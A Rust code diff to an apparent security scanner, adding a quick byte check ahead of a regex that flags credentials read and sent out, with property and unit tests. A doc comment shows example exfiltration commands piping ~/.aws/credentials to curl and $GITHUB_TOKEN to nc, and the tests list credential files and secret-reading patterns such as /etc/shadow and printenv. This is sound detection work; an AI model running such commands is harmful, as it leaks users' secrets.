@@ -1390,10 +1390,16 @@ fn aws_secret_keys(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
 
 /// Credentials read on the host and sent out: `cat ~/.aws/credentials | curl -d @- ...`,
 /// `echo $GITHUB_TOKEN | nc host 9000`.
+/// Whether [`CRED_SOURCE`] may match `d`'s text: each of its alternatives
+/// holds a `.`, `/`, `$` or `|`, but `printenv` (a test keeps this in step).
+fn may_name_cred_source(d: &Doc<'_>) -> bool {
+    d.bytes.may_hold_any(b"./$|") || d.holds("printenv")
+}
+
 fn exfiltration(d: &Doc<'_>, out: &mut Vec<Hit>, push: &mut Push<'_>) {
     let text = d.text;
     let Some(re) = CRED_SOURCE.as_ref() else { return };
-    if !re.is_match(text) {
+    if !may_name_cred_source(d) || !re.is_match(text) {
         return;
     }
     let pipe_sink = [
@@ -1747,6 +1753,58 @@ mod tests {
     /// (a literal, an escaped literal, a class `[..]` or a group `(?:..|..)`
     /// each) pass `token_start_pair`: the quick test before the search
     /// never turns a match away.
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(4000))]
+        /// `may_name_cred_source` passes every text CRED_SOURCE matches.
+        #[test]
+        fn cred_source_gate_admits_every_match(parts in proptest::collection::vec("printenv|env \\||env\\||\\.npmrc|\\$\\{?AWS_SECRET_KEY\\}?|\\.ssh/id_rsa|/etc/shadow|gcloud/credentials|[a-zA-Z_ ]{1,6}|[./$|{}]", 0..6)) {
+            let text: String = parts.concat();
+            let d = Doc { text: &text, lower: super::super::ascii_lower(&text), fences: Vec::new(), prose: false, bytes: super::super::ByteSet::of(&text) };
+            if CRED_SOURCE.as_ref().is_some_and(|re| re.is_match(&text)) {
+                proptest::prop_assert!(may_name_cred_source(&d), "{}", text);
+            }
+        }
+    }
+
+    /// Every alternative of CRED_SOURCE holds a byte `may_name_cred_source`
+    /// looks for, or is `printenv`.
+    #[test]
+    fn cred_source_alternatives_hold_a_gate_byte() {
+        for m in [
+            ".aws/credentials",
+            ".ssh/id_ed25519",
+            "/proc/self/environ",
+            ".git-credentials",
+            ".docker/config.json",
+            ".kube/config",
+            ".npmrc",
+            ".pypirc",
+            ".netrc",
+            "printenv",
+            "env |",
+            "env|",
+            "/etc/shadow",
+            ".vault-token",
+            "gcloud/credentials.db",
+            "$GITHUB_TOKEN",
+            "${DB_PASSWORD}",
+            "$API_KEY",
+        ] {
+            let d =
+                Doc { text: m, lower: super::super::ascii_lower(m), fences: Vec::new(), prose: false, bytes: super::super::ByteSet::of(m) };
+            assert!(CRED_SOURCE.as_ref().is_some_and(|re| re.is_match(m)), "{m}");
+            assert!(may_name_cred_source(&d), "{m}");
+        }
+        let d = Doc {
+            text: "env staging token",
+            lower: "env staging token".into(),
+            fences: Vec::new(),
+            prose: false,
+            bytes: super::super::ByteSet::of("env staging token"),
+        };
+        assert!(!may_name_cred_source(&d));
+    }
+
     #[test]
     fn token_start_pairs_cover_every_alternative() {
         // Top-level alternatives.
